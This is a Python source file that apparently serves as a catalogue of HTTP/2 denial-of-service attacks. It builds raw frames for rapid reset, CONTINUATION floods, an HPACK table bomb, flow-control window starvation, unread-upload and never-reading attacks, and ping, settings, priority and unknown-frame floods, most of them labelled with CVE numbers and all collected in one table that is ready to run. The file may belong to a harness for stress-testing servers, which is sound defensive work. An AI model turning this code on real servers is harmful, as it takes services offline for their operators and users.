"""What each attack on HTTP/2 sends, as frames by hand.

A way of attacking yields bytes, which are sent as fast as they are taken, and numbers, which are pauses in seconds. When it ends, its connection stays.
"""

import itertools
from dataclasses import dataclass
from typing import Callable

from frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY, PRIORITY_UPDATE, SETTINGS, field, frame,
    get, number, opening, request, reset, settings, window,
)  # fmt: skip

MANY = 64  # frames, or groups of them, in one piece
STREAMS = 100  # that a client may have open
LARGEST = 0x7FFFFFFF
HALF = END_HEADERS  # of a request whose body is to come


@dataclass(frozen=True)
class Attack:
    pieces: Callable  # () -> iterator of bytes and pauses
    reads: bool = True  # what the server says; else nothing, with as small a buffer as there is


def streams():
    return itertools.count(1, 2)


def flood(piece, *settings_said):
    """The same frames for ever."""

    def pieces():
        yield opening(*settings_said)
        block = piece * max(1, 16384 // len(piece))
        while True:
            yield block

    return pieces


def per_stream(make):
    """The same frames for ever, each time on a new stream."""

    def pieces():
        yield opening()
        numbers = streams()
        while True:
            yield b"".join(make(next(numbers)) for _ in range(MANY))

    return pieces


def on_open(piece, path="/later"):
    """A flood on one stream that stays open."""

    def pieces():
        yield opening() + frame(HEADERS, 1, request(path, "POST"), HALF)
        block = piece * max(1, 16384 // len(piece))
        while True:
            yield block

    return pieces


def made_reset(fault):
    """CVE-2025-8671: the server resets the stream for what the client does on it."""
    return per_stream(lambda stream: get(stream, "/never") + fault(stream))


def half_closed(stream):
    return frame(HEADERS, stream, request("/never"), END_HEADERS | END_STREAM)


def continuations(payload):
    """CVE-2024-28182: a header section that never ends."""

    def pieces():
        yield opening() + frame(HEADERS, 1, request("/plaintext"), END_STREAM)
        block = frame(CONTINUATION, 1, payload) * max(1, 16384 // (9 + len(payload)))
        while True:
            yield block

    return pieces


def hpack_bomb():
    """CVE-2016-6581: one entry fills the table, and each byte afterwards is that entry."""
    yield opening((INITIAL_WINDOW_SIZE, 0))
    # With incremental indexing, and a length of more than 126 (RFC 7541 §5.1): 127 + 0x81 + 0x1C * 128.
    entry = b"\x40\x01a" + b"\x7f" + bytes([0x81, 0x1C]) + b"x" * (127 + 1 + 0x1C * 128)
    numbers = streams()
    yield frame(HEADERS, next(numbers), request("/plaintext") + entry, END_HEADERS | END_STREAM)
    while True:
        yield frame(HEADERS, next(numbers), request("/plaintext") + b"\xbe" * 8000, END_HEADERS | END_STREAM)


def cookie_crumbs():
    """CVE-2026-49975: empty cookies, a byte each, in requests whose answers are kept back by a window of nothing."""
    yield opening((INITIAL_WINDOW_SIZE, 0))
    numbers = streams()
    for _ in range(STREAMS):
        yield frame(HEADERS, next(numbers), request("/files/large") + b"\xa0" * 390, END_HEADERS | END_STREAM)
    while True:
        yield frame(HEADERS, next(numbers), request("/files/large") + b"\xa0" * 8000, END_HEADERS | END_STREAM)
        yield 0.01


def windows(increment, pause):
    """CVE-2019-9517: answers wait for windows, which come in drops."""

    def pieces():
        yield opening((INITIAL_WINDOW_SIZE, 0)) + b"".join(get(2 * index + 1, "/files/large") for index in range(STREAMS))
        while increment:
            yield b"".join(window(2 * index + 1, increment) for index in range(STREAMS))
            yield pause

    return pieces


def never_reading(path):
    """CVE-2019-9511: windows without end, and nothing is read."""

    def pieces():
        yield opening((INITIAL_WINDOW_SIZE, LARGEST)) + window(0, LARGEST - 65535)
        yield b"".join(get(2 * index + 1, path) for index in range(STREAMS))

    return pieces


def unread_uploads():
    """Bodies that no handler reads, as much as the windows allow."""
    yield opening()
    yield b"".join(frame(HEADERS, 2 * index + 1, request("/unread", "POST"), HALF) for index in range(STREAMS))
    for _ in range(4):
        for index in range(16):
            yield frame(DATA, 2 * index + 1, bytes(16384 - 1))


def half_preface():
    yield PREFACE[:12]


def priority_updates(stream):
    return frame(PRIORITY_UPDATE, 0, number(stream) + b"u=1, i")


def settings_with_streams():
    """Each change of the initial window goes through all streams."""
    yield opening() + b"".join(get(2 * index + 1, "/never") for index in range(STREAMS))
    while True:
        yield b"".join(settings((INITIAL_WINDOW_SIZE, 60000 + index)) for index in range(MANY))


ATTACKS = {
    "rapid-reset": Attack(per_stream(lambda stream: get(stream, "/later") + reset(stream))),  # CVE-2023-44487
    "rapid-reset-async": Attack(per_stream(lambda stream: get(stream, "/async") + reset(stream))),
    "reset-by-overflow": Attack(made_reset(lambda stream: window(stream, LARGEST))),
    "reset-by-zero": Attack(made_reset(lambda stream: window(stream, 0))),
    "reset-by-headers": Attack(made_reset(half_closed)),
    "reset-by-data": Attack(made_reset(lambda stream: frame(DATA, stream, b"x"))),
    "reset-by-priority-size": Attack(made_reset(lambda stream: frame(PRIORITY, stream, bytes(4)))),
    "reset-by-priority-self": Attack(made_reset(lambda stream: frame(PRIORITY, stream, number(stream) + b"\x10"))),
    "refused-streams": Attack(per_stream(lambda stream: get(stream, "/never"))),
    "continuation": Attack(continuations(field("a", "b" * 100))),
    "continuation-empty": Attack(continuations(b"")),
    "empty-data": Attack(on_open(frame(DATA, 1))),
    "tiny-data": Attack(on_open(frame(DATA, 1, b"x"), "/unread")),
    "empty-headers": Attack(per_stream(lambda stream: frame(HEADERS, stream, b"", END_HEADERS | END_STREAM))),
    "ping": Attack(flood(frame(PING, 0, bytes(8)))),
    "ping-unread": Attack(flood(frame(PING, 0, bytes(8))), reads=False),
    "settings": Attack(flood(frame(SETTINGS))),
    "settings-with-streams": Attack(settings_with_streams),
    "priority": Attack(flood(frame(PRIORITY, 1, bytes(5)))),
    "priority-update": Attack(per_stream(priority_updates)),
    "window-update": Attack(flood(window(0, 1))),
    "unknown": Attack(flood(frame(0xFA, 0, b"x"))),
    "unknown-large": Attack(flood(frame(0xFA, 0, bytes(16384)))),
    "hpack-bomb": Attack(hpack_bomb),
    "cookie-crumbs": Attack(cookie_crumbs),
    "zero-window": Attack(windows(0, 0.0)),
    "byte-windows": Attack(windows(1, 0.1)),
    "never-reading": Attack(never_reading("/files/large"), reads=False),
    "never-reading-bytes": Attack(never_reading("/megabyte"), reads=False),
    "unread-uploads": Attack(unread_uploads),
    "half-preface": Attack(half_preface),
}
